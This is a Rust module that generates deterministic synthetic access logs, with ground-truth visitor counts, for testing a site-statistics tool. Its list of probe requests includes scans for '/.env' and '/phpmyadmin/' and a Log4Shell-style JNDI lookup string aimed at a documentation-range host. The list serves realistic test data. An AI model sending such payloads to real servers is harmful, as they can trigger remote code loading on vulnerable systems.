//! Log lines for a site, made up, with what is true about them: for demonstrations, tests and measurements.
//!
//! Addresses are from ranges that nobody has (RFC 5737, RFC 2544, RFC 3849). Visitors are people with a browser each; some share
//! address and browser, as behind an office's proxy. Browsers ask for the style sheet as our header files let them, or as another
//! host does ([`Keeping`]). Visits begin by links, letters and feeds, and some people take a file with them. There are robots that
//! say what they are, robots that call themselves browsers, searches for holes, and lines that are broken.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;
use std::io::{self, Cursor, Read};

use jiff::civil::Date;

use super::data::Counts;
use super::day::ZONE;
use super::pages::Pages;

/// What is true of the lines.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Serialize)]
pub struct Truth {
    /// Of people.
    pub people: Counts,
    /// Of people as far as address and browser tell them apart: of two who share both there is one.
    pub told_apart: Counts,
    /// Visits that began with the link of a letter, and with that of a feed.
    pub by_letter: u64,
    /// See `by_letter`.
    pub by_feed: u64,
    /// Files that people took.
    pub downloads: u64,
    /// What people searched for, each search once a day for each who can be told apart.
    pub searches: u64,
    /// All lines.
    pub lines: u64,
    /// Those that are no requests.
    pub malformed: u64,
}

/// Numbers that look random and are the same every time (splitmix64).
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, most: u64) -> u64 {
        self.next() % most.max(1)
    }

    fn is_one_in(&mut self, many: u64) -> bool {
        self.below(many) == 0
    }

    /// The first more often than the second, and so on: by the square of an even number.
    fn skewed(&mut self, most: usize) -> usize {
        let share = self.below(1 << 20) as f64 / f64::from(1 << 20);
        ((share * share) * most as f64) as usize
    }
}

const BROWSERS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
];

const ROBOTS: [&str; 5] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot",
    "curl/8.5.0",
];

const REFERRERS: [&str; 6] = [
    "-",
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://www.socialstyrelsen.se/",
    "https://intranat.kommun.se/",
    "https://forum.example/",
];

const SEARCHES: [&str; 8] =
    ["avtal", "samordningsteam", "ekonomiskt+bist%C3%A5nd", "fia", "unga", "aktivitetskrav", "handlingsplan", "xyzzy"];

const HOLES: [&str; 4] = ["/wp-login.php", "/.env", "/phpmyadmin/", "/?x=${jndi:ldap://203.0.113.9/a}"];

const DAY: i64 = 86_400;

/// What the host says of the style sheet.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Keeping {
    /// A browser keeps it for so many seconds and asks for nothing while it does.
    For(i64),
    /// A browser keeps it and asks each time whether it is still the same.
    Asked,
}

impl Keeping {
    /// As our header files have it: for twelve hours.
    pub const OURS: Keeping = Keeping::For(12 * 3600);
}

/// By what link a page was opened, where its address tells.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Link {
    Other,
    Letter,
    Feed,
}

struct Person {
    address: String,
    browser: &'static str,
    /// When the style sheet was fetched.
    styled: i64,
    /// The number of the first who has this address and browser.
    told: usize,
}

/// Makes the lines of one day after the other.
pub struct Demo<'a> {
    pages: &'a Pages,
    /// Pages that people read, the most read first.
    read: Vec<u32>,
    numbers: Numbers,
    people: Vec<Person>,
    keeping: Keeping,
    /// The files that lie below each page's address, by its number.
    files: BTreeMap<u32, Vec<String>>,
    /// Who has searched for what today.
    asked: BTreeSet<(usize, usize)>,
    day: Date,
    visits_a_day: u64,
    /// Of the lines that have been made so far.
    pub truth: Truth,
}

impl<'a> Demo<'a> {
    /// From a day on, with about so many visits on a working day.
    pub fn new(pages: &'a Pages, first: Date, visits_a_day: u64, seed: u64) -> Demo<'a> {
        let mut numbers = Numbers(seed);
        let kinds = [
            "start",
            "search",
            "example",
            "fia",
            "page",
            "examples",
            "experience",
            "data",
            "municipality",
            "term",
            "county",
        ];
        let of_kind = |kind: &&str| -> Vec<u32> {
            let all = pages.all.iter().zip(0..).filter(|(page, _)| page.kind == *kind);
            all.map(|(_, number)| number).collect()
        };
        let read = kinds.iter().flat_map(of_kind).collect();
        // Of any two visits most are by different people, and somebody comes back now and then.
        let people = (0..visits_a_day * 8).map(|number| {
            // One in fifty shares the address and the browser of the one before.
            let own = if number % 50 == 49 { number - 1 } else { number };
            let browser = BROWSERS[(own % BROWSERS.len() as u64) as usize];
            Person { address: address(own), browser, styled: i64::MIN / 2, told: own as usize }
        });
        let people = people.collect();
        let _ = numbers.next();
        let (keeping, files, asked, truth) = (Keeping::OURS, BTreeMap::new(), BTreeSet::new(), Truth::default());
        Demo { pages, read, numbers, people, keeping, files, asked, day: first, visits_a_day, truth }
    }

    /// The same from a host that says this of the style sheet. Half of the people have been there before, and may have it still.
    #[must_use]
    pub fn keeping(mut self, keeping: Keeping) -> Demo<'a> {
        let begin = midnight(self.day);
        if let Keeping::For(seconds) = keeping {
            let numbers = &mut self.numbers;
            let known = self.people.iter_mut().filter(|_| numbers.is_one_in(2)).collect::<Vec<_>>();
            known.into_iter().for_each(|person| person.styled = begin - self.numbers.below(seconds as u64 + 1) as i64);
        }
        self.keeping = keeping;
        self
    }

    /// The same, with files that people take, by their addresses within the site. The link to a file is on the page whose address
    /// its own begins with.
    #[must_use]
    pub fn with_files(mut self, files: &[String]) -> Demo<'a> {
        for file in files {
            let above = file.match_indices('/').rev().find_map(|(at, _)| self.pages.find(&file[..=at]));
            // From the front page there is a link to nothing.
            if let Some(page) = above.filter(|page| self.pages.all[*page as usize].address != "/") {
                self.files.entry(page).or_default().push(file.clone());
            }
        }
        self
    }

    /// The lines of the next day, in order of time.
    pub fn day(&mut self) -> String {
        let start = midnight(self.day);
        // A day is an hour shorter or longer when clocks change.
        let end = self.day.tomorrow().map_or(start + DAY, midnight);
        let offset = ZONE.to_offset(jiff::Timestamp::from_second(start + DAY / 2).unwrap_or_default()).seconds();
        let is_weekend = self.day.weekday().to_monday_zero_offset() > 4;
        let visits = if is_weekend { self.visits_a_day / 4 } else { self.visits_a_day };
        let mut lines: Vec<(i64, String)> = Vec::new();
        let mut seen: BTreeMap<usize, Vec<(i64, Link)>> = BTreeMap::new();
        for _ in 0..visits {
            let person = self.numbers.skewed(self.people.len());
            // Mostly office hours, sometimes late.
            let hour = if self.numbers.is_one_in(8) { 18 + self.numbers.below(6) } else { 7 + self.numbers.below(10) };
            let begin = start + hour as i64 * 3600 + self.numbers.below(3600) as i64;
            self.visit(person, begin, end, offset, &mut lines, seen.entry(person).or_default());
        }
        let mut told: BTreeMap<usize, Vec<(i64, Link)>> = BTreeMap::new();
        // A late hour of the night that is an hour shorter is tomorrow's: nobody came then.
        seen.retain(|_, views| !views.is_empty());
        for (person, views) in seen {
            told.entry(self.people[person].told).or_default().extend(&views);
            let first = self.truth.people.count(views);
            self.truth.by_letter += first.iter().filter(|link| **link == Link::Letter).count() as u64;
            self.truth.by_feed += first.iter().filter(|link| **link == Link::Feed).count() as u64;
        }
        self.truth.searches += std::mem::take(&mut self.asked).len() as u64;
        told.into_values().for_each(|views| drop(self.truth.told_apart.count(views)));
        self.others(visits, start, offset, &mut lines);
        lines.sort();
        self.truth.lines += lines.len() as u64;
        self.day = self.day.tomorrow().unwrap_or(self.day);
        lines.into_iter().fold(String::new(), |mut all, (_, line)| {
            all.push_str(&line);
            all.push('\n');
            all
        })
    }

    fn visit(
        &mut self,
        person: usize,
        begin: i64,
        end: i64,
        offset: i32,
        lines: &mut Vec<(i64, String)>,
        views: &mut Vec<(i64, Link)>,
    ) {
        let mut time = begin;
        let mut link = self.link();
        let mut referrer = match link {
            Link::Other => REFERRERS[self.numbers.skewed(REFERRERS.len())].to_owned(),
            Link::Letter | Link::Feed => "-".to_owned(),
        };
        for _ in 0..=self.numbers.skewed(9) {
            if time >= end || self.read.is_empty() {
                break;
            }
            let page = self.read[self.numbers.skewed(self.read.len())];
            let mut target = format!("{}{}", self.pages.base, self.pages.all[page as usize].address);
            if self.pages.is_search(page) {
                // Nobody sends a link to a search.
                link = Link::Other;
                let search = self.numbers.skewed(SEARCHES.len());
                self.asked.insert((self.people[person].told, search));
                let _ = write!(target, "?q={}", SEARCHES[search]);
            }
            target.push_str(match link {
                Link::Other => "",
                Link::Letter => "?fran=brev",
                Link::Feed => "?fran=feed",
            });
            let Person { address, browser, styled, .. } = &mut self.people[person];
            let mut get = |time, target: &str, status, referrer: &str| {
                lines.push((time, line(address, time, offset, "GET", target, status, referrer, browser)));
            };
            get(time, &target, 200, &referrer);
            views.push((time, std::mem::replace(&mut link, Link::Other)));
            let style = match self.keeping {
                Keeping::For(seconds) if time - *styled >= seconds => Some(200),
                Keeping::For(_) => None,
                Keeping::Asked => Some(if *styled < 0 { 200 } else { 304 }),
            };
            referrer = format!("https://{}{}", self.pages.host, target);
            if let Some(status) = style {
                *styled = time;
                get(time, &format!("{}/_a/style.0000000000.css", self.pages.base), status, &referrer);
            }
            if let Some(files) = self.files.get(&page)
                && time + 9 < end
                && self.numbers.is_one_in(3)
            {
                let file = &files[self.numbers.skewed(files.len())];
                get(time + 4, &format!("{}{file}", self.pages.base), 200, &referrer);
                self.truth.downloads += 1;
            }
            time += 5 + self.numbers.below(400) as i64;
        }
    }

    /// Letters are sent four times a year, and read in the two weeks after; some people follow the feeds.
    fn link(&mut self) -> Link {
        let is_sent = self.day.month() % 3 == 0 && self.day.day() >= 15;
        let letters = if is_sent { 6 } else { 80 };
        match (self.numbers.is_one_in(letters), self.numbers.is_one_in(30)) {
            (true, _) => Link::Letter,
            (false, true) => Link::Feed,
            (false, false) => Link::Other,
        }
    }

    /// Robots and broken lines.
    fn others(&mut self, visits: u64, start: i64, offset: i32, lines: &mut Vec<(i64, String)>) {
        let views = lines.len() as u64;
        for _ in 0..views * 3 / 10 {
            let time = start + self.numbers.below(DAY as u64) as i64;
            let page = self.read.get(self.numbers.below(self.read.len() as u64) as usize).copied().unwrap_or_default();
            let target = format!("{}{}", self.pages.base, self.pages.all[page as usize].address);
            let agent = ROBOTS[self.numbers.skewed(ROBOTS.len())];
            lines.push((time, line("203.0.113.7", time, offset, "GET", &target, 200, "-", agent)));
        }
        // A crawler that calls itself a browser takes many pages in a row, and no style sheet.
        for crawler in 0..1 + visits / 200 {
            let mut time = start + self.numbers.below(DAY as u64 - 3600) as i64;
            for _ in 0..15 + self.numbers.below(20) {
                let page =
                    self.read.get(self.numbers.below(self.read.len() as u64) as usize).copied().unwrap_or_default();
                let target = format!("{}{}", self.pages.base, self.pages.all[page as usize].address);
                let from = format!("198.51.100.{}", crawler % 250);
                lines.push((time, line(&from, time, offset, "GET", &target, 200, "-", BROWSERS[1])));
                time += 2;
            }
        }
        for _ in 0..views / 12 {
            let time = start + self.numbers.below(DAY as u64) as i64;
            let hole = HOLES[self.numbers.below(HOLES.len() as u64) as usize];
            lines.push((time, line("203.0.113.9", time, offset, "GET", hole, 404, "-", BROWSERS[1])));
        }
        for _ in 0..views.div_ceil(1000) {
            let time = start + self.numbers.below(DAY as u64) as i64;
            self.truth.malformed += 1;
            lines.push((time, "203.0.113.9 - - [broken \"\u{0}".to_owned()));
        }
    }
}

/// The lines of so many days as a log that is read.
pub struct DemoLog<'a> {
    demo: Demo<'a>,
    /// How many are left.
    days: usize,
    day: Cursor<String>,
}

impl<'a> DemoLog<'a> {
    /// The log of `demo` for so many days from its first.
    pub fn new(demo: Demo<'a>, days: usize) -> DemoLog<'a> {
        DemoLog { demo, days, day: Cursor::default() }
    }
}

impl Read for DemoLog<'_> {
    fn read(&mut self, into: &mut [u8]) -> io::Result<usize> {
        loop {
            match self.day.read(into)? {
                0 if self.days > 0 && !into.is_empty() => {
                    self.days -= 1;
                    self.day = Cursor::new(self.demo.day());
                }
                count => return Ok(count),
            }
        }
    }
}

impl Counts {
    /// Adds a visitor's page views of one day, and gives the link that each visit began with.
    fn count(&mut self, mut views: Vec<(i64, Link)>) -> Vec<Link> {
        views.sort_unstable();
        let visits = views.chunk_by(|a, b| b.0 - a.0 <= i64::from(super::figures::PAUSE));
        let first: Vec<Link> = visits.map(|visit| visit[0].1).collect();
        self.add(Counts { page_views: views.len() as u64, visits: first.len() as u64, visitor_days: 1 });
        first
    }
}

/// When a day begins, in seconds since 1970.
fn midnight(day: Date) -> i64 {
    day.to_zoned(ZONE.clone()).map_or(0, |moment| moment.timestamp().as_second())
}

/// The address of a person: one in four has IPv6.
fn address(number: u64) -> String {
    match number % 4 {
        3 => format!("2001:db8:{:x}:{:x}::{:x}", number >> 16, number & 0xffff, number % 9 + 1),
        _ => format!("198.{}.{}.{}", 18 + (number >> 16 & 1), number >> 8 & 255, number & 255),
    }
}

#[expect(clippy::too_many_arguments, reason = "a line has so many fields")]
fn line(
    address: &str,
    time: i64,
    offset: i32,
    method: &str,
    target: &str,
    status: u16,
    referrer: &str,
    agent: &str,
) -> String {
    let local = jiff::tz::Offset::from_seconds(offset).unwrap_or(jiff::tz::Offset::UTC);
    let moment = local.to_datetime(jiff::Timestamp::from_second(time).unwrap_or_default());
    let sign = if offset < 0 { '-' } else { '+' };
    let (hours, minutes) = (offset.abs() / 3600, offset.abs() / 60 % 60);
    let time = moment.strftime("%d/%b/%Y:%H:%M:%S");
    format!(
        "{address} - - [{time} {sign}{hours:02}{minutes:02}] \"{method} {target} HTTP/1.1\" {status} 5120 \"{referrer}\" \"{agent}\""
    )
}
